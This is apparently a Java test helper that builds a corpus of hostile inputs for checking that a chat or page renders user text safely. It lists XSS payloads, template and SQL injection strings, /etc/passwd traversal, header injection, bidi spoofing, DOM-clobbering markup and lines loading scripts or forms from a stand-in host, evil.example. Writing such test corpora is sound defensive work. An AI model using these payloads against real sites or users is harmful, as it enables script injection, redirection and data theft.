package org.hiroba.page;

import java.util.ArrayList;
import java.util.List;

/** Texts that somebody may send to harm those who read them. */
final class HostileTexts {
  private static final List<String> HANDLERS =
      List.of("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin");
  private static final List<String> TAGS =
      List.of("img src=x", "svg", "body", "details open", "video src=x", "input autofocus", "a");
  private static final List<String> LINKS =
      List.of(
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          "java\tscript:alert(1)",
          "&#106;avascript:alert(1)",
          "vbscript:msgbox(1)",
          "data:text/html,<script>alert(1)</script>",
          "data:image/svg+xml;base64,PHN2Zy8+",
          "file:///etc/passwd",
          "blob:http://localhost/x",
          "//evil.example/x");
  private static final List<String> OTHERS =
      List.of(
          "<script>alert(1)</script>",
          "</script><script>alert(1)</script>",
          "<script src=//evil.example/x.js></script>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<style>*{display:none}</style>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<meta http-equiv=refresh content='0;url=//evil.example'>",
          "<base href=//evil.example/>",
          "<iframe src=//evil.example></iframe>",
          "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
          "<object data=//evil.example></object>",
          "<embed src=//evil.example>",
          "<form action=//evil.example><input name=x><button>go</button></form>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
          "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
          "<template><script>alert(1)</script></template>",
          "<img src='x' style='position:fixed;inset:0'>",
          "<div style='background:url(//evil.example/x.png)'>x</div>",
          "<audio src=//evil.example/x.mp3 autoplay></audio>",
          "<marquee onstart=alert(1)>x</marquee>",
          "<!--<img src='--><img src=x onerror=alert(1)>'>",
          "<![CDATA[<script>alert(1)</script>]]>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "${7*7} #{7*7} {{7*7}} <%= 7*7 %> [[7*7]]",
          "__proto__ constructor hasOwnProperty",
          "{\"type\":\"deleted\",\"target\":1}",
          "```<script>alert(1)</script>```",
          "```html\n<img src=x onerror=alert(1)>\n```",
          "`<img src=x onerror=alert(1)>`",
          "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
          "> <img src=x onerror=alert(1)>",
          "# <img src=x onerror=alert(1)>",
          "- [ ] <img src=x onerror=alert(1)>",
          "[x]: javascript:alert(1)\n[x]",
          "[<img src=x onerror=alert(1)>](http://localhost/)",
          "[a](http://e.example/\"onmouseover=\"alert(1))",
          "[a](<http://e.example/\" onmouseover=\"alert(1)>)",
          "![a\" onerror=\"alert(1)](http://e.example/x.png)",
          "![x](http://evil.example/pixel.png)",
          "http://e.example/<script>alert(1)</script>",
          "http://e.example/\"onmouseover=alert(1)//",
          "www.evil.example/<img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "\u202Eevil gnp.exe\u202C",
          "\u2066\u2067\u2068nested isolates",
          "a" + "\u0301".repeat(9_000),
          "Z\u0351\u036B\u0343\u036A\u0302".repeat(200),
          "\u200B\u200C\u200D\uFEFF zero width",
          "W".repeat(10_000),
          "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66".repeat(300),
          "*".repeat(5_000),
          "[".repeat(2_000) + "]".repeat(2_000),
          ">".repeat(500) + " deep",
          "_".repeat(3_000) + "a" + "_".repeat(3_000),
          "`".repeat(4_000),
          "1. ".repeat(300) + "x",
          "\\".repeat(4_000),
          "<".repeat(5_000),
          "&".repeat(5_000),
          "\n".repeat(500) + "tail",
          "\t\u000B\u000C controls \u0001\u0007\u001B[31m",
          "%00 %0d%0aSet-Cookie: x=1",
          "'; DROP TABLE event; --",
          "\" OR 1=1 --",
          "../../../../etc/passwd",
          "null",
          "undefined",
          "NaN",
          "[object Object]",
          "@everyone @\u202Eoge",
          "#/r/lobby/1 #../../x",
          "mailto:a@b.example?bcc=<script>alert(1)</script>",
          "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
          "<hiroba-sign-in></hiroba-sign-in><hiroba-app></hiroba-app>",
          "<img name=body><form name=getElementById>",
          "<a id=hiroba-data></a><div id=announcer>");

  private HostileTexts() {}

  /** Returns more than a hundred of them, no two alike. */
  static List<String> all() {
    List<String> texts = new ArrayList<>(OTHERS);
    for (String tag : TAGS) {
      for (String handler : HANDLERS) {
        texts.add("<" + tag + " " + handler + "=alert(1)>");
      }
    }
    for (String link : LINKS) {
      texts.add("[click](" + link + ")");
      texts.add("<a href=\"" + link + "\">click</a>");
      texts.add("<" + link + ">");
    }
    return texts.stream().distinct().toList();
  }

  /**
   * Returns them as far as they fit into one line of so many code points, as names, topics and
   * queries are: without what the server refuses there.
   */
  static List<String> lines(int maxChars) {
    return all().stream()
        .map(text -> line(text, maxChars))
        .filter(text -> !text.isEmpty())
        .distinct()
        .toList();
  }

  private static String line(String text, int maxChars) {
    return text.codePoints()
        .filter(c -> !Character.isISOControl(c))
        .filter(c -> (c < 0x202A || c > 0x202E) && (c < 0x2066 || c > 0x2069))
        .limit(maxChars)
        .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
        .toString()
        .strip();
  }
}
